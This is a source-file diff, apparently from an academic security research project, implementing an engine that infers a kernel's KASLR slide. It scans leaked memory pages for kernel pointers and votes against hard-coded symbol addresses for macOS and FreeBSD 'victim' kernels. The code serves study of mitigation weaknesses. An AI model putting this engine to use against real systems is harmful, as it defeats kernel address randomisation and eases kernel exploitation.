@@ -0,0 +1,346 @@
+/*-
+ * SPDX-License-Identifier: BSD-2-Clause
+ * 
+ * This software was developed by SRI International and the University of
+ * Cambridge Computer Laboratory under DARPA/AFRL contract FA8750-10-C-0237
+ * ("CTSRD"), as part of the DARPA CRASH research programme.
+ * 
+ * We acknowledge the support of EPSRC.
+ * 
+ * We acknowledge the support of Arm Ltd.
+ * 
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions
+ * are met:
+ * 1. Redistributions of source code must retain the above copyright
+ *    notice, this list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright
+ *    notice, this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 
+ * THIS SOFTWARE IS PROVIDED BY THE AUTHOR AND CONTRIBUTORS ``AS IS'' AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE
+ * IMPLIED WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE
+ * ARE DISCLAIMED.  IN NO EVENT SHALL THE AUTHOR OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS
+ * OR SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION)
+ * HOWEVER CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT
+ * LIABILITY, OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY
+ * OUT OF THE USE OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF
+ * SUCH DAMAGE.
+ */
+
+#include <string.h>
+
+#include "kaslr.h"
+
+#if defined(HOST_WORDS_BIGENDIAN) || defined(KASLR_SCALAR)
+#elif defined(__ARM_NEON) || defined(__ARM_NEON__)
+#include <arm_neon.h>
+#define KASLR_NEON
+#elif defined(__SSE2__)
+#include <emmintrin.h>
+#define KASLR_SSE2
+#endif
+
+/*
+ * A stray heap pointer matches a symbol's low 21 bits about once in a million
+ * pointers, so two votes for the same slide are already convincing.
+ */
+#define KASLR_VICTIM_MIN_VOTES 2
+
+/* The top 17 bits are set in every canonical kernel-half address. */
+#define KERNEL_HALF_MASK 0xFFFF800000000000ULL
+
+#if defined(VICTIM_MACOS_HIGH_SIERRA)
+static const struct kaslr_symbol VICTIM_SYMBOLS[] = {
+	{ "m_bigfree", 0xffffff8000baa2d0 },
+	{ "m_16kfree", 0xffffff8000baa300 },
+	{ "mcache_panic", 0xffffff8000b78580 },
+};
+#define VICTIM_SLIDE_ALIGNMENT 0x200000ULL
+#define VICTIM_MAX_SLIDE (0x200000ULL * 255)
+#elif defined(VICTIM_MACOS_EL_CAPITAN)
+static const struct kaslr_symbol VICTIM_SYMBOLS[] = {
+	{ "panic", 0xffffff80002de6b0 },
+	{ "KUNCExecute", 0xffffff80002b7530 },
+};
+#define VICTIM_SLIDE_ALIGNMENT 0x200000ULL
+#define VICTIM_MAX_SLIDE (0x200000ULL * 255)
+#elif defined(VICTIM_FREEBSD)
+static const struct kaslr_symbol VICTIM_SYMBOLS[] = {
+	{ "printf", 0xffffffff80a4da90 },
+	{ "panic", 0xffffffff80a0b9a0 },
+};
+/* FreeBSD does not slide its kernel, so only a zero slide is possible. */
+#define VICTIM_SLIDE_ALIGNMENT 0x200000ULL
+#define VICTIM_MAX_SLIDE 0
+#endif
+
+static inline uint64_t
+load_le64(const uint8_t *bytes)
+{
+	uint64_t word;
+	memcpy(&word, bytes, sizeof(word));
+#ifdef HOST_WORDS_BIGENDIAN
+	word = __builtin_bswap64(word);
+#endif
+	return word;
+}
+
+/*
+ * Returns a mask with bit i set if word i of the four at words is in the
+ * kernel half.
+ */
+static inline unsigned
+kernel_half_mask(const uint8_t *words)
+{
+#if defined(KASLR_SSE2)
+	const __m128i mask = _mm_set1_epi64x(KERNEL_HALF_MASK);
+	__m128i low = _mm_and_si128(_mm_loadu_si128((const __m128i *)words),
+		mask);
+	__m128i high = _mm_and_si128(
+		_mm_loadu_si128((const __m128i *)(words + 16)), mask);
+	/* Both 32-bit halves of a word must match the mask. */
+	unsigned bytes = _mm_movemask_epi8(_mm_cmpeq_epi32(low, mask)) |
+		_mm_movemask_epi8(_mm_cmpeq_epi32(high, mask)) << 16;
+	return ((bytes & 0xFF) == 0xFF) | ((bytes >> 8 & 0xFF) == 0xFF) << 1 |
+		((bytes >> 16 & 0xFF) == 0xFF) << 2 | ((bytes >> 24) == 0xFF) << 3;
+#elif defined(KASLR_NEON)
+	const uint32x4_t mask =
+		vreinterpretq_u32_u64(vdupq_n_u64(KERNEL_HALF_MASK));
+	uint32x4_t low = vceqq_u32(vandq_u32(vld1q_u32((const uint32_t *)words),
+		mask), mask);
+	uint32x4_t high = vceqq_u32(vandq_u32(
+		vld1q_u32((const uint32_t *)(words + 16)), mask), mask);
+	/* Both 32-bit halves of a word must match the mask. */
+	uint64x2_t low_words = vreinterpretq_u64_u32(low);
+	uint64x2_t high_words = vreinterpretq_u64_u32(high);
+	return (vgetq_lane_u64(low_words, 0) == ~0ULL) |
+		(vgetq_lane_u64(low_words, 1) == ~0ULL) << 1 |
+		(vgetq_lane_u64(high_words, 0) == ~0ULL) << 2 |
+		(vgetq_lane_u64(high_words, 1) == ~0ULL) << 3;
+#else
+	unsigned result = 0;
+	for (int i = 0; i < 4; ++i) {
+		if ((load_le64(words + i * 8) & KERNEL_HALF_MASK) ==
+			KERNEL_HALF_MASK) {
+			result |= 1 << i;
+		}
+	}
+	return result;
+#endif
+}
+
+int
+kaslr_find_kernel_pointers(const uint8_t page[4096], uint64_t *pointers,
+	uint16_t *offsets, int max)
+{
+	int found = 0;
+	unsigned mask;
+
+	for (int offset = 0; offset < 4096; offset += 32) {
+		mask = kernel_half_mask(page + offset);
+		while (mask != 0) {
+			int word = __builtin_ctz(mask);
+			if (found < max) {
+				pointers[found] = load_le64(page + offset + word * 8);
+				offsets[found] = offset + word * 8;
+			}
+			++found;
+			mask &= mask - 1;
+		}
+	}
+	return found;
+}
+
+void
+kaslr_init(struct kaslr_engine *engine, const struct kaslr_symbol *symbols,
+	int symbol_count, uint64_t alignment, uint64_t max_slide,
+	uint32_t min_votes)
+{
+	struct kaslr_symbol symbol;
+	uint64_t residue;
+	int i, j;
+
+	memset(engine, 0, sizeof(*engine));
+	if (symbol_count > KASLR_MAX_SYMBOLS) {
+		symbol_count = KASLR_MAX_SYMBOLS;
+	}
+	engine->symbol_count = symbol_count;
+	engine->alignment = alignment;
+	engine->max_slide = max_slide;
+	engine->min_votes = min_votes;
+	engine->best = -1;
+	engine->runner_up = -1;
+	engine->lowest_pointer = ~0ULL;
+
+	/* Insertion sort by residue, so lookups can binary search. */
+	for (i = 0; i < symbol_count; ++i) {
+		symbol = symbols[i];
+		residue = symbol.address & (alignment - 1);
+		for (j = i; j > 0 && engine->residues[j - 1] > residue; --j) {
+			engine->symbols[j] = engine->symbols[j - 1];
+			engine->residues[j] = engine->residues[j - 1];
+		}
+		engine->symbols[j] = symbol;
+		engine->residues[j] = residue;
+
+		if (symbol.address < engine->lowest_pointer) {
+			engine->lowest_pointer = symbol.address;
+		}
+		if (symbol.address + max_slide > engine->highest_pointer) {
+			engine->highest_pointer = symbol.address + max_slide;
+		}
+	}
+}
+
+bool
+kaslr_init_for_victim(struct kaslr_engine *engine)
+{
+#ifdef VICTIM_SLIDE_ALIGNMENT
+	kaslr_init(engine, VICTIM_SYMBOLS,
+		sizeof(VICTIM_SYMBOLS) / sizeof(VICTIM_SYMBOLS[0]),
+		VICTIM_SLIDE_ALIGNMENT, VICTIM_MAX_SLIDE, KASLR_VICTIM_MIN_VOTES);
+	return true;
+#else
+	kaslr_init(engine, NULL, 0, 1, 0, 1);
+	return false;
+#endif
+}
+
+static struct kaslr_slide_votes *
+find_slide(struct kaslr_engine *engine, uint64_t slide, int *index)
+{
+	uint32_t slot = ((slide / engine->alignment) * 0x9E3779B97F4A7C15ULL) >>
+		(64 - KASLR_HISTOGRAM_BITS);
+	struct kaslr_slide_votes *entry;
+
+	while (true) {
+		slot &= KASLR_HISTOGRAM_SIZE - 1;
+		entry = &engine->histogram[slot];
+		if (entry->votes == 0) {
+			if (engine->slides_in_histogram >=
+				KASLR_HISTOGRAM_SIZE * 3 / 4) {
+				return NULL;
+			}
+			++engine->slides_in_histogram;
+			entry->slide = slide;
+			*index = slot;
+			return entry;
+		}
+		if (entry->slide == slide) {
+			*index = slot;
+			return entry;
+		}
+		++slot;
+	}
+}
+
+/* Keeps best and runner_up exact, given that votes only rise one at a time. */
+static void
+update_leaders(struct kaslr_engine *engine, int index)
+{
+	struct kaslr_slide_votes *histogram = engine->histogram;
+
+	if (index == engine->best) {
+		return;
+	}
+	if (engine->best == -1 ||
+		histogram[index].votes > histogram[engine->best].votes) {
+		engine->runner_up = engine->best;
+		engine->best = index;
+	} else if (engine->runner_up == -1 ||
+		histogram[index].votes > histogram[engine->runner_up].votes) {
+		engine->runner_up = index;
+	}
+}
+
+void
+kaslr_add_pointer(struct kaslr_engine *engine, uint64_t pointer)
+{
+	struct kaslr_slide_votes *entry;
+	uint64_t residue, slide;
+	int low = 0, high = engine->symbol_count, middle, index;
+
+	++engine->pointers_seen;
+	if (pointer < engine->lowest_pointer || pointer > engine->highest_pointer) {
+		return;
+	}
+
+	residue = pointer & (engine->alignment - 1);
+	while (low < high) {
+		middle = (low + high) / 2;
+		if (engine->residues[middle] < residue) {
+			low = middle + 1;
+		} else {
+			high = middle;
+		}
+	}
+
+	for (; low < engine->symbol_count && engine->residues[low] == residue;
+		++low) {
+		if (pointer < engine->symbols[low].address) {
+			continue;
+		}
+		slide = pointer - engine->symbols[low].address;
+		if (slide > engine->max_slide) {
+			continue;
+		}
+		entry = find_slide(engine, slide, &index);
+		if (entry == NULL) {
+			continue;
+		}
+		++entry->votes;
+		update_leaders(engine, index);
+	}
+}
+
+bool
+kaslr_add_page(struct kaslr_engine *engine, const uint8_t page[4096])
+{
+	uint64_t pointers[KASLR_MAX_POINTERS_PER_PAGE];
+	uint16_t offsets[KASLR_MAX_POINTERS_PER_PAGE];
+	int count;
+
+	++engine->pages_scanned;
+	count = kaslr_find_kernel_pointers(page, pointers, offsets,
+		KASLR_MAX_POINTERS_PER_PAGE);
+	for (int i = 0; i < count; ++i) {
+		kaslr_add_pointer(engine, pointers[i]);
+	}
+	if (engine->pages_to_confidence == 0 && kaslr_confident(engine)) {
+		engine->pages_to_confidence = engine->pages_scanned;
+	}
+	return kaslr_confident(engine);
+}
+
+bool
+kaslr_confident(const struct kaslr_engine *engine)
+{
+	const struct kaslr_slide_votes *best, *runner_up;
+
+	if (engine->best == -1) {
+		return false;
+	}
+	best = &engine->histogram[engine->best];
+	if (best->votes < engine->min_votes) {
+		return false;
+	}
+	if (engine->runner_up == -1) {
+		return true;
+	}
+	runner_up = &engine->histogram[engine->runner_up];
+	return best->votes >= 2 * runner_up->votes;
+}
+
+bool
+kaslr_best_slide(const struct kaslr_engine *engine, uint64_t *slide)
+{
+	if (engine->best == -1) {
+		return false;
+	}
+	*slide = engine->histogram[engine->best].slide;
+	return true;
+}